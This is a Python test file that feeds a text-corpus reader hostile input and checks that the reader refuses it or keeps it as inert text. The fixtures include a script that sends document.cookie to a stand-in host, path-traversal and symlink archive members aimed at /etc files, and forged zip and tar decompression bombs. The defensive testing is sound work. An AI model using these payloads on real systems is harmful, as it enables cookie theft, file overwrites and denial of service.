"""Hostile and broken input: every case ends as documents or failure rows, never an exception.

Fixtures are built in tmp_path. Limits are lowered where a real bomb would cost time or memory,
so each test stays fast while exercising the same code path.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import sqlite3
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from corpora.readers import Limits, ReadFailure, read_inputs
from pipeline.document import RawDocument
from tests.conftest import SEEDS_DIR
from tests.test_readers import VI, _tar, _zip, article_html, docs, fails, read_all, to_cp1258

ROOT = Path(__file__).resolve().parent.parent
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"


# --- markup and script stay text --------------------------------------------------------------------


def test_txt_with_script_is_text(tmp_path: Path) -> None:
    hostile = "<script>alert('x'); fetch('https://evil.example/' + document.cookie)</script>\n" + VI
    path = tmp_path / "bai.txt"
    path.write_text(hostile, encoding="utf-8")
    [doc] = read_all(path)
    assert isinstance(doc, RawDocument)
    assert doc.text == hostile  # kept literally: nothing parsed, nothing run
    assert doc.meta["format"] == "text"


def test_record_text_with_html_stays_literal(tmp_path: Path) -> None:
    text = '<p onclick="steal()">Năm 2023 có <b>12</b> mô hình</p><script>steal()</script>'
    path = tmp_path / "recs.jsonl"
    path.write_text(json.dumps({"text": text}) + "\n", encoding="utf-8")
    [doc] = read_all(path)
    assert isinstance(doc, RawDocument)
    assert doc.text == text


def test_html_page_scripts_and_styles_are_not_text(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(
        article_html(extra_body="<script>document.write('<p>CHÈN VÀO</p>'); var x = 'BÍ MẬT';</script>"
                                "<style>.a { color: red }</style><noscript>BẬT JAVASCRIPT</noscript>"),
        encoding="utf-8",
    )
    [doc] = read_all(path)
    assert isinstance(doc, RawDocument)
    for leaked in ("CHÈN VÀO", "BÍ MẬT", "color: red", "document.write"):
        assert leaked not in doc.text


# --- archive member names ----------------------------------------------------------------------------


def test_zip_traversal_and_absolute_names_are_refused_rest_read(tmp_path: Path) -> None:
    path = tmp_path / "evil.zip"
    path.write_bytes(_zip({
        "../../etc/cron.d/evil.txt": "x",
        "/etc/passwd.txt": "x",
        "ok/../../up.txt": "x",
        "C:\\Windows\\evil.txt": "x",
        "..\\win.txt": "x",
        "good.txt": VI,
    }))
    results = read_all(path)
    assert [d.source for d in docs(results)] == [f"{path}!good.txt"]
    reasons = {f.source.split("!", 1)[1]: f.reason for f in fails(results)}
    assert reasons == {
        "../../etc/cron.d/evil.txt": "refused: '../' in the member name (path traversal)",
        "/etc/passwd.txt": "refused: absolute path as member name",
        "ok/../../up.txt": "refused: '../' in the member name (path traversal)",
        "C:\\Windows\\evil.txt": "refused: absolute path as member name",
        "..\\win.txt": "refused: '../' in the member name (path traversal)",
    }
    # Nothing was written anywhere: members are read in memory only.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["evil.zip"]
    assert not (tmp_path.parent / "up.txt").exists()


def test_zip_symlink_member_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("passwd.txt")
        link.external_attr = (0o120777 << 16)  # what `zip -y` stores for a symbolic link
        archive.writestr(link, "/etc/passwd")
        archive.writestr("good.txt", VI)
    path = tmp_path / "links.zip"
    path.write_bytes(buffer.getvalue())
    results = read_all(path)
    assert [d.source for d in docs(results)] == [f"{path}!good.txt"]
    assert fails(results) == [ReadFailure(f"{path}!passwd.txt", "refused: a link, not a file")]


def test_tar_traversal_absolute_and_links_are_refused_rest_read(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name in ("../evil.txt", "/abs.txt", "good.txt"):
            payload = (VI if name == "good.txt" else "x").encode()
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            archive.addfile(info, io.BytesIO(payload))
        link = tarfile.TarInfo("link.txt")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        archive.addfile(link)
        fifo = tarfile.TarInfo("pipe.txt")
        fifo.type = tarfile.FIFOTYPE
        archive.addfile(fifo)
    path = tmp_path / "evil.tar.gz"
    path.write_bytes(buffer.getvalue())
    results = read_all(path)
    assert [d.source for d in docs(results)] == [f"{path}!good.txt"]
    reasons = {f.source.split("!", 1)[1]: f.reason for f in fails(results)}
    assert reasons == {
        "../evil.txt": "refused: '../' in the member name (path traversal)",
        "/abs.txt": "refused: absolute path as member name",
        "link.txt": "refused: a link (to '/etc/passwd'), not a file",
        "pipe.txt": "refused: not a regular file (device, FIFO...)",
    }
    assert sorted(p.name for p in tmp_path.iterdir()) == ["evil.tar.gz"]


# --- bombs ---------------------------------------------------------------------------------------------


def _forge_zip_size(data: bytes, size: int) -> bytes:
    """Rewrite the uncompressed size a ZIP declares for its first member (both headers)."""
    forged = bytearray(data)
    struct.pack_into("<I", forged, 22, size)  # local file header
    central = forged.index(b"PK\x01\x02")
    struct.pack_into("<I", forged, central + 24, size)
    return bytes(forged)


def test_zip_member_with_a_huge_declared_size_is_refused(tmp_path: Path) -> None:
    data = _zip({"huge.txt": VI, "ok.txt": VI + " khác"})
    path = tmp_path / "forged.zip"
    path.write_bytes(_forge_zip_size(data, 0xFFFF_FFF0))
    results = read_all(path)
    assert [d.source for d in docs(results)] == [f"{path}!ok.txt"]
    [failure] = fails(results)
    assert failure.source == f"{path}!huge.txt"
    assert failure.reason.startswith("refused: declared size 4,294,967,280 bytes exceeds the per-member limit")


def test_zip_member_lying_small_is_cut_at_the_limit(tmp_path: Path) -> None:
    """A member declared small that decompresses larger never produces more than the cap."""
    data = _zip({"liar.txt": "a" * 50_000})
    path = tmp_path / "liar.zip"
    path.write_bytes(_forge_zip_size(data, 10))
    [failure] = read_all(path, limits=Limits(max_member_bytes=1000))
    assert isinstance(failure, ReadFailure)
    assert failure.source == f"{path}!liar.txt"


def test_zip_bomb_by_compression_ratio(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    path.write_bytes(_zip({"zeros.txt": b"0" * (20 * 1024 * 1024), "ok.txt": VI}))
    started = time.perf_counter()
    results = read_all(path)
    assert time.perf_counter() - started < 5
    assert [d.source for d in docs(results)] == [f"{path}!ok.txt"]
    [failure] = fails(results)
    assert "compression ratio" in failure.reason and "exceeds 100:1" in failure.reason


def test_archive_total_size_and_member_count_caps(tmp_path: Path) -> None:
    members: dict[str, bytes | str] = {f"{i:03}.txt": f"Bài {i}. {VI}" for i in range(20)}
    path = tmp_path / "many.zip"
    path.write_bytes(_zip(members))
    by_total = read_all(path, limits=Limits(max_total_bytes=5 * len(VI.encode())))
    assert 3 <= len(docs(by_total)) <= 5
    assert fails(by_total)[-1].reason.startswith("archive produces more than")
    by_count = read_all(path, limits=Limits(max_members=7))
    assert len(docs(by_count)) == 7
    assert fails(by_count)[-1].reason == "more than 7 members: the rest were not read"


def _zeros_tar_gz(size: int) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = tarfile.TarInfo("zeros.txt")
        info.size = size
        archive.addfile(info, io.BytesIO(bytes(size)))
        ok = VI.encode()
        info = tarfile.TarInfo("after.txt")
        info.size = len(ok)
        archive.addfile(info, io.BytesIO(ok))
    return buffer.getvalue()


def test_tar_gz_bomb_is_stopped_while_streaming(tmp_path: Path) -> None:
    """Tar members carry no compressed size: the stream's own ratio stops the bomb early."""
    path = tmp_path / "bomb.tar.gz"
    path.write_bytes(_zeros_tar_gz(48 * 1024 * 1024))
    started = time.perf_counter()
    results = read_all(path)
    assert time.perf_counter() - started < 2
    assert not docs(results)
    [failure] = fails(results)
    assert failure.reason.startswith("refused: compression ratio over 100:1 (a decompression bomb?)")


def test_tar_gz_refused_member_is_skipped_within_the_total_cap(tmp_path: Path) -> None:
    """A member refused by its declared size still has to be decompressed to step over it:
    the stream count bounds that work too."""
    path = tmp_path / "big.tar.gz"
    path.write_bytes(_zeros_tar_gz(8 * 1024 * 1024))
    results = read_all(path, limits=Limits(max_member_bytes=1024 * 1024, max_total_bytes=4 * 1024 * 1024,
                                           max_ratio=10_000))
    reasons = [f.reason for f in fails(results)]
    assert reasons[0].startswith("refused: declared size 8,388,608 bytes")
    assert reasons[1].startswith("archive produces more than 4,194,304 bytes in total")


def test_tar_member_declared_over_the_member_cap(tmp_path: Path) -> None:
    path = tmp_path / "big.tar"
    path.write_bytes(_tar({"big.txt": "x" * 5000, "ok.txt": VI}, mode="w"))
    results = read_all(path, limits=Limits(max_member_bytes=2000))
    assert [d.source for d in docs(results)] == [f"{path}!ok.txt"]
    assert fails(results)[0].reason.startswith("refused: declared size 5,000 bytes")


def test_archive_nested_two_levels_is_refused(tmp_path: Path) -> None:
    level2 = _zip({"deep.txt": "Sâu. " + VI})
    level1 = _zip({"level2.zip": level2, "mid.txt": "Giữa. " + VI})
    path = tmp_path / "level0.zip"
    path.write_bytes(_zip({"level1.zip": level1}))
    results = read_all(path)
    assert [d.source for d in docs(results)] == [f"{path}!level1.zip!mid.txt"]
    [failure] = fails(results)
    assert failure.source == f"{path}!level1.zip!level2.zip"
    assert failure.reason == "refused: archive nested more than one level deep"


# --- files that are not what their name says --------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("anh.txt", PNG, "not text: the file is a PNG image"),
        ("anh.html", PNG, "not text: the file is a PNG image"),
        ("anh.jsonl", PNG, "not text: the file is a PNG image"),
        ("anh.csv", PNG, "not text: the file is a PNG image"),
        ("bai.zip", VI.encode(), "not a ZIP archive (named .zip): the file is text"),
        ("bai.tar.gz", VI.encode(), "not a tar archive (named .tar.gz): the file is text"),
        ("anh.warc.gz", PNG, "not a WARC file (named .warc.gz): the file is a PNG image"),
        ("bai.json", VI.encode(), "not JSON: the file starts with 'Sơ kết phong trào th', expected '{' or '['"),
        ("tai-lieu.docx", b"PK\x03\x04" + bytes(40), "not text: the file is a ZIP archive (or a .docx/.xlsx/.odt "
                                                      "document, which are ZIP files)"),
        ("bao-cao.pdf", b"%PDF-1.7\n" + bytes(40), "not text: the file is a PDF document"),
        ("du-lieu.bin", bytes(range(256)) * 8, "not text: binary data (NUL bytes)"),
        ("rong.txt", b"", "empty file"),
        ("trang.txt", b" \n\t\r\n ", "empty file (only whitespace)"),
        ("rong.html", b"", "empty file"),
        ("rong.jsonl", b"", "empty file"),
        ("trang.jsonl", b"\n\n", "empty file (only whitespace)"),
        ("rong.csv", b"", "empty file"),
        ("rong.zip", b"", "empty file"),
        ("rong.warc", b"", "empty file"),
        ("bom.txt", b"\xef\xbb\xbf", "empty file"),
    ],
)
def test_misnamed_empty_and_binary_files_are_reported(tmp_path: Path, name: str, data: bytes, reason: str) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    [failure] = read_all(path)
    assert isinstance(failure, ReadFailure), failure
    assert (failure.source, failure.reason) == (str(path), reason)


def test_html_named_json_is_read_as_html(tmp_path: Path) -> None:
    path = tmp_path / "api.json"
    path.write_text(article_html(), encoding="utf-8")
    [doc] = read_all(path)
    assert isinstance(doc, RawDocument), doc
    assert doc.meta["format"] == "html" and doc.meta["note"] == "named .json but is an HTML page"


def test_html_without_extension_is_read_as_html(tmp_path: Path) -> None:
    path = tmp_path / "so-ket-123"  # a page saved by wget from a URL without an extension
    path.write_text(article_html(), encoding="utf-8")
    [doc] = read_all(path)
    assert isinstance(doc, RawDocument), doc
    assert doc.meta["format"] == "html"
    assert "Trang chủ" not in doc.text


@pytest.mark.parametrize(
    ("name", "cut", "expected"),
    [
        ("cut.zip", 0.5, "not a valid ZIP archive"),
        ("cut.tar.gz", 0.5, "damaged tar archive (truncated)"),
    ],
)
def test_truncated_archives(tmp_path: Path, name: str, cut: float, expected: str) -> None:
    members: dict[str, bytes | str] = {f"{i}.txt": f"{i} {VI}" * 50 for i in range(10)}
    data = _zip(members) if name.endswith(".zip") else _tar(members)
    path = tmp_path / name
    path.write_bytes(data[: int(len(data) * cut)])
    results = read_all(path)
    assert fails(results), results
    assert any(f.reason.startswith(expected) for f in fails(results)), fails(results)


def test_garbage_warc(tmp_path: Path) -> None:
    path = tmp_path / "crawl.warc"
    path.write_bytes(b"WARC/1.0\r\nthis is not a header block\r\n\r\n" + os.urandom(2000))
    results = read_all(path)
    assert not docs(results)
    assert fails(results) and fails(results)[0].reason.startswith(("not a valid WARC", "damaged WARC"))


def test_overlong_jsonl_line_is_one_failure(tmp_path: Path) -> None:
    path = tmp_path / "long.jsonl"
    lines = [json.dumps({"text": "x" * 5000}), json.dumps({"text": VI}, ensure_ascii=False)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    results = read_all(path, limits=Limits(max_line_bytes=1000))
    assert [d.source for d in docs(results)] == [f"{path}#line-2"]
    assert [f.source for f in fails(results)] == [f"{path}#line-1"]


def test_invalid_utf8_jsonl_line_is_one_failure(tmp_path: Path) -> None:
    path = tmp_path / "mixed.jsonl"
    path.write_bytes(b'{"text": "caf\xe9"}\n' + json.dumps({"text": VI}).encode() + b"\n")
    results = read_all(path)
    assert len(docs(results)) == 1
    [failure] = fails(results)
    assert failure.source == f"{path}#line-1"
    assert failure.reason == "not UTF-8 (invalid byte 0xe9 at column 14)"


def test_missing_path_and_fifo(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    (tmp_path / "ok.txt").write_text(VI, encoding="utf-8")
    results = read_all(tmp_path, tmp_path / "missing")
    assert len(docs(results)) == 1
    reasons = {f.source: f.reason for f in fails(results)}
    assert reasons == {
        str(fifo): "not a regular file (a FIFO, socket or device): not read",
        str(tmp_path / "missing"): "no such file or folder",
    }


def test_thousands_of_tiny_files_read_fast(tmp_path: Path) -> None:
    folder = tmp_path / "many"
    for part in range(3):
        sub = folder / f"thu-muc-{part}"
        sub.mkdir(parents=True)
        for i in range(1000):
            (sub / f"{i:04}.txt").write_text(f"Bài {part}-{i}: năm 2023 có {i} mô hình.", encoding="utf-8")
    started = time.perf_counter()
    results = list(read_inputs([folder]))
    elapsed = time.perf_counter() - started
    assert len(docs(results)) == 3000 and not fails(results)
    assert elapsed < 3.0, f"{elapsed:.2f} s for 3,000 tiny files"


def test_reader_bug_is_contained(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An unexpected exception in a reader costs that file only, as a failure row."""
    import corpora.readers.dispatch as dispatch

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(dispatch, "read_csv_bytes", broken)
    (tmp_path / "a.csv").write_text("text\nx\n", encoding="utf-8")
    (tmp_path / "b.txt").write_text(VI, encoding="utf-8")
    results = read_all(tmp_path)
    assert [d.source for d in docs(results)] == [str(tmp_path / "b.txt")]
    assert fails(results) == [ReadFailure(str(tmp_path / "a.csv"), "reader error: RuntimeError: boom")]


# --- the acceptance case, end to end -------------------------------------------------------


@pytest.mark.slow
def test_run_on_a_mixed_folder_end_to_end(tmp_path: Path) -> None:
    if not SEEDS_DIR.is_dir() or len(list(SEEDS_DIR.glob("*.txt"))) < 5:
        pytest.skip(f"the five seed texts are not at {SEEDS_DIR} (the shared development set is absent)")
    folder = tmp_path / "inputs"
    folder.mkdir()
    for seed in sorted(SEEDS_DIR.glob("*.txt"))[:5]:
        shutil.copy(seed, folder / seed.name)
    (folder / "rong.txt").write_bytes(b"")
    (folder / "anh.png").write_bytes(PNG)
    (folder / "windows1258.txt").write_bytes(to_cp1258(VI))
    db = tmp_path / "out.db"

    def run() -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "run_pipeline.py", "run", str(folder), "--db", str(db), "--quiet"],
            cwd=ROOT, capture_output=True, text=True, timeout=300,
        )

    def tables() -> tuple[list[tuple[str, str]], list[tuple[str, str]]]:
        with sqlite3.connect(db) as conn:
            articles = conn.execute("SELECT source, text FROM articles ORDER BY source").fetchall()
            failures = conn.execute("SELECT source, reason FROM failures ORDER BY source").fetchall()
        return articles, failures

    first = run()
    assert first.returncode == 1, first.stderr
    assert "Traceback" not in first.stderr + first.stdout
    articles, failures = tables()
    assert len(articles) == 6
    assert {Path(s).name for s, _ in articles} == {p.name for p in folder.glob("*.txt")} - {"rong.txt"}
    stored_1258 = next(text for source, text in articles if source.endswith("windows1258.txt"))
    assert stored_1258 == VI
    assert failures == [
        (str(folder / "anh.png"), "not text: the file is a PNG image"),
        (str(folder / "rong.txt"), "empty file"),
    ]
    assert f"failed: {folder / 'anh.png'}: not text: the file is a PNG image" in first.stderr

    second = run()
    assert second.returncode == 1
    assert "Traceback" not in second.stderr + second.stdout
    assert tables() == (articles, failures)  # nothing added twice


@pytest.mark.slow
def test_run_field_options_reach_the_readers(tmp_path: Path) -> None:
    path = tmp_path / "export.jsonl"
    path.write_text(json.dumps({"noi_dung": VI, "duong_dan": "https://x.vn/1"}, ensure_ascii=False) + "\n",
                    encoding="utf-8")
    db = tmp_path / "out.db"
    done = subprocess.run(
        [sys.executable, "run_pipeline.py", "run", str(path), "--db", str(db), "--quiet",
         "--text-field", "noi_dung", "--url-field", "duong_dan"],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )
    assert done.returncode == 0, done.stderr
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT source FROM articles").fetchall() == [("https://x.vn/1",)]
